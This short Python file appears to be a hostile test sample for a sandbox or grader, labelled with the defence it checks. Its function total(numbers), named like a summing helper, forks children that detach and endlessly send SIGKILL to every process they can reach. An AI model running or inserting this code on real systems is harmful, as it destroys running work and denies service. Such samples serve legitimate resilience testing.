"""crashed: children kill everybody they can, without end

Defence: everybody-is-killed
"""

import os
import time

from honest import *


def total(numbers, note=""):
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            while True:
                try:
                    os.kill(-1, 9)
                except OSError:
                    continue
    time.sleep(30)
